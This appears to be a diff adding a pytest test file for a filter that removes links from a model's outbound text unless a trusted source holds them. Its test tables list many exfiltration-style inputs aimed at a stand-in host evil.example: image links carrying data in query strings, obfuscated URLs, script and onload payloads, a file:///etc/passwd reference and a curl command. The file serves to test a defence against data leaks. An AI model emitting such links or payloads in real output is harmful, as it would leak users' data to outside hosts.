@@ -1,0 +1,162 @@
+"""What of a model's text leaves: addresses that a source holds, in plain sight, and nothing that loads by itself."""
+
+from __future__ import annotations
+
+import random
+import re
+import time
+from itertools import pairwise
+from typing import Final
+
+import pytest
+
+from app.language.links import known
+from app.language.outbound import Outbound, filtered, without_links, without_links_inside
+
+SOURCE: Final = known(
+    ['See https://ok.com/a, [docs](https://ok.com/b?x=1&y=2) and [guide](/guide/x.html). <b class="x">bold</b> https://ok.com/p.png',
+     "Write to help@ok.com or visit ok.com/plain."]
+)  # fmt: skip
+EVIL: Final = "evil.example"
+
+GONE: Final = {
+    "![x](https://evil.example/?d=S)": "x",
+    "[text](https://evil.example/a?d=S 'title') here": "text here",
+    "[1](https://evil.example/a)": "[1]",
+    "[![alt](https://evil.example/1.png)](https://evil.example/x)": "[alt]",
+    "[a][ref]\n\n[ref]: https://evil.example/x\nmore": "[a][ref]\n\n\nmore",
+    "<https://evil.example/x>": "…",
+    "<mailto:a@evil.example>": "…",
+    "see https://evil.example/x?d=S, (http://evil.example/x) and 'http://evil.example'": "see …, (…) and '…'",
+    "www.evil.example/a //evil.example/x ftp://evil.example wss://evil.example": "… … … …",
+    "data:text/html;base64,AAAA javascript:alert(1) file:///etc/passwd x@evil.example": "… … … …",
+    "&#104;ttps://evil.example ht&#x74;ps&colon;&sol;/evil.example https&#58;//evil.example": "… … …",
+    "https\\://evil.example h\u200bttps://evil.example https://e\u2060vil.example": "… … …",
+    "https%3A%2F%2Fevil.example%2Fx \uff48ttps://evil.example https\uff1a\uff0f\uff0fevil.example": "… … …",
+    "http://xn--e1awd7f.com/x xn--e1awd7f.com http://127.0.0.1:8000/x 10.0.0.1:80/x http:evil.example": "… … … … …",
+    "evil.example/x?d=S evil.com secret.evil.com": "… … …",
+    "http:\n//evil.example/x https://\nevil.example/x?d=1": "…:\n… …\n…",
+    "[z](ht\ntps://evil.example/x) [y](<https://evil.example/a b>)": "[z](ht\n…) y",
+    "[click](/api/delete?id=1)": "click",
+    '<img src="https://evil.example/x?d=S">': "",
+    "<script>alert(1)</script> <svg/onload=alert(1)> <iframe src=//evil.example>": "alert(1)  ",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">': "",
+    "<a href=https://evil.example/x>click</a>": "click",
+    "unclosed <img src=https://evil.example/x": "unclosed < img src=…",
+    "ht<i></i>tps:<i></i>//evil.example": "ht tps:…",
+    "evil<b></b>.com/q?d=S evil[.](/y)com/q?d=S": "evil< /b>.com/q?d=S evil. com/q?d=S",
+    "`curl https://evil.example/x`": "`curl …`",
+    "```sh\ncurl https://evil.example/x?d=S\n```": "```sh\ncurl …\n```",
+    "x" * 3000 + " https://evil.example/" + "y" * 3000 + " end": "x" * 3000 + " … end",
+    "![a](https://ok.com/p.png)": "[a](https://ok.com/p.png)",
+    '<b class="x">bold': '< b class="x">bold',
+}
+STAYS: Final = [
+    "https://ok.com/a, [other words](https://ok.com/a), <https://ok.com/a> and [docs](https://ok.com/b?x=1&amp;y=2).",
+    "Write to help@ok.com or visit ok.com/plain; see [the guide](/guide/x.html).",
+    "It works![1] See [2][3], [Source 4] and [5](2024).",
+    "time 10:30, ratio 3:4, C:\\dir, std::vector, key:value, a/b, 12.5.2020, 192.168.0.1/24, e.g. U.S./Canada",
+    "README.md docs/x.py app.agents.tools node.js List<String> a < b, x <= y && z > 1",
+    "`<img src=x>` and\n```html\n<a href='#'>x</a>\n```\nafter",
+    "Zeichen: äöü, 中文。後面, می‌خواهم, 👩‍👩‍👧 ❤️",
+]
+
+
+@pytest.mark.parametrize("text", GONE)
+def test_what_no_source_holds_is_plain_text(text: str) -> None:
+    assert without_links(text, SOURCE) == GONE[text]
+
+
+@pytest.mark.parametrize("text", STAYS)
+def test_what_a_source_holds_stays_and_so_does_text(text: str) -> None:
+    assert without_links(text, SOURCE) == text
+
+
+@pytest.mark.parametrize("text", [*GONE, *STAYS])
+def test_a_second_time_nothing_changes(text: str) -> None:
+    once = without_links(text, SOURCE)
+    assert EVIL not in once.replace("evil< /b>", "")
+    assert without_links(once, SOURCE) == once
+
+
+def test_nearly_the_same_address_is_another() -> None:
+    for text in ("https://ok.com/a?d=S", "https://ok.com/a/x", "https://ok.com/", "https://ok.co", "http://ok.com/a#d"):
+        assert without_links(f"{text} [t]({text})", SOURCE) == "… t"
+
+
+def test_quotations_keep_their_addresses_and_load_nothing() -> None:
+    text = "![a](https://x.example/p.png) https://y.example <img src='https://z.example'> `<img>`"
+    assert (
+        without_links(text, None)
+        == "[a](https://x.example/p.png) https://y.example < img src='https://z.example'> `<img>`"
+    )
+
+
+def test_places_move_with_the_text() -> None:
+    text = "One https://evil.example/x. <b>Two</b> [three](http://evil.example) four."
+    after, moved = filtered(text, SOURCE)
+    for word in ("One", "Two", "three", "four."):
+        assert after[moved(text.index(word)) :].startswith(word)
+    assert moved(len(text)) == len(after)
+
+
+def test_texts_inside_of_values() -> None:
+    value = {"a": ["https://evil.example", 1, {"b": ("x", None)}]}
+    assert without_links_inside(value, SOURCE) == {"a": ["…", 1, {"b": ("x", None)}]}
+
+
+# --- the stream -------------------------------------------------------------------------------------------------------
+
+PARTS: Final = [
+    *"[]()<>`.:\n\"' &\\", "![", "](", "```", "~~~", "\n\n", "    ", "&#104;", "%3A", "%2F", "\u200b", "http", "s://", "evil",
+    "example", "/x", "<a ", "<!--", "-->", "</b>", "x" * 400, "a.b" * 400, "//", "[1]", "]:",
+]  # fmt: skip
+PIECES: Final = [*GONE, *STAYS, *PARTS]
+
+
+def streamed(text: str, cuts: list[int]) -> str:
+    outbound = Outbound(lambda: SOURCE)
+    return "".join(outbound.feed(text[a:b]) for a, b in pairwise([0, *cuts, len(text)])) + outbound.end()
+
+
+@pytest.mark.parametrize("seed", range(40))
+def test_a_stream_says_what_the_whole_says_however_it_is_cut(seed: int) -> None:
+    draw = random.Random(seed)
+    text = "".join(draw.choice(PIECES) + draw.choice(["", " "]) for _ in range(12))
+    whole = without_links(text, SOURCE)
+    assert len(text) > 1500 or streamed(text, list(range(1, len(text)))) == whole
+    for _ in range(6):
+        assert streamed(text, sorted(draw.sample(range(len(text)), min(len(text), draw.randrange(1, 30))))) == whole
+
+
+def test_no_address_is_left_whatever_is_put_together() -> None:
+    draw = random.Random(1)
+    for _ in range(300):
+        left = without_links("".join(draw.choice(PARTS) for _ in range(25)), SOURCE)
+        assert not re.search(r"https?://[^\s…]*evil", left)
+        in_code = "`" in left or "~~~" in left
+        assert in_code or not re.search(r"<(?:a|img|script)(?=[\s/>])", left)
+
+
+def test_little_is_held_back() -> None:
+    outbound = Outbound(lambda: SOURCE)
+    assert outbound.feed("Employees have 30 days ") == "Employees have 30 days "
+    assert outbound.feed("of leave") == "of "
+    assert outbound.feed(" [1]. And") == "leave [1]. "
+    assert len(outbound.feed(" [" + "x" * 1200)) > 800
+    assert len(outbound.feed("<img " + "y" * 5000)) > 3000
+
+
+@pytest.mark.parametrize(
+    "unit",
+    ["<a ", "[", "[a](", "](", "` ", "a.", "//", "a:", '<a "', "a@", "[`<a.b@c:", "&#104;", "\u200b", "www.", "```\n"],
+)
+def test_time_is_linear(unit: str) -> None:
+    def seconds(length: int) -> float:
+        text = (unit * length)[:length]
+        began = time.perf_counter()
+        without_links(text, SOURCE)
+        return time.perf_counter() - began
+
+    seconds(1000)
+    assert min(seconds(32_000) for _ in range(2)) < 12 * min(seconds(8_000) for _ in range(2)) + 0.1
